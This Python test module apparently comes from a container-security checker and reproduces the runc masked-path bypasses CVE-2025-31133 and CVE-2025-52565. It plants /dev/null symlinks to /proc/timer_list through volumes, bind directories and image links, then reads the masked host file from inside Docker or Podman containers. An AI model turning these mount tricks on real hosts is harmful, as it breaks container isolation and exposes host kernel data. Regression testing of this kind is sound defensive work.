"""Mounts over what the runtime itself uses while it sets a container up. It hides files of the kernel by
binding the container's own /dev/null over them: whoever rules /dev rules what is hidden (CVE-2025-31133),
and what becomes of the terminal (CVE-2025-52565)."""

import os

from lib.makers import podman, run
from lib.rows import says

from .mounts import volume

TIMERS = "read the host's timers"
SHOW = "grep -m1 -o 'Timer List' /proc/timer_list && echo RE''AD"
# Where a link stands for /dev/null the runtime takes pipes for it: what is read goes to a file.
KEEP = "cat /proc/timer_list > /dev/out"


def plant(name, link, to):
    """A volume in which a container left a link."""
    def before(attempt):
        docker, made = attempt.world.docker, attempt.fill(name)
        docker("volume", "create", made, check=True)
        attempt.callback(docker, "volume", "rm", "-f", made)
        docker("run", "--rm", "-v", made + ":/v", "probe:1", "ln", "-s", to, "/v/" + link, check=True)
    return before


def image_with_link(attempt):
    """An image in which /d leads to /dev."""
    attempt.docker("run", "--name", "{id}b", "probe:1", "ln", "-s", "/dev", "/d", check=True)
    attempt.callback(attempt.world.docker, "rm", "-f", attempt.id + "b")
    attempt.docker("commit", "{id}b", "{id}:1", check=True)
    attempt.callback(attempt.world.docker, "rmi", "-f", attempt.id + ":1")


def kept(attempt, _text):
    """What was hidden stands in the volume."""
    path = os.path.join(attempt.world.docker.data, "volumes", attempt.id, "_data", "out")
    if not os.path.exists(path):
        return False
    with open(path, encoding="utf-8", errors="replace") as file:
        return "Timer List" in file.read()


NULL = plant("{id}", "null", "/proc/timer_list")


def shared_dev(attempt):
    os.symlink("/proc/timer_list", os.path.join(attempt.shared, "null"))


ROWS = [
    run("-v {id}:/dev", TIMERS, SHOW, says("READ"), before=NULL, needs=("timer_list",), control="mounts",
        name="-v VOLUME:/dev, its null a link to what is to be hidden"),
    run("-v {shared}:/dev", TIMERS, SHOW, says("READ"), before=shared_dev, needs=("timer_list",),
        control="mounts", name="-v DIR:/dev, its null a link to what is to be hidden"),
    run("-v {id}:/d", TIMERS, KEEP, kept, image="{id}:1", before=[NULL, image_with_link],
        needs=("timer_list",), control="mounts", name="-v VOLUME:/d of an image in which /d leads to /dev"),
    run("-v {id}v:/a -v {id}:/a/x", TIMERS, KEEP, kept, before=[NULL, plant("{id}v", "x", "/dev")],
        needs=("timer_list",), control="mounts", name="-v VOLUME:/a -v OTHER:/a/x, in VOLUME x leads to /dev"),
    podman("-v {shared}:/dev", TIMERS, SHOW, says("READ"), before=shared_dev, needs=("timer_list",),
           control="mounts", name="-v DIR:/dev, its null a link to what is to be hidden"),
]
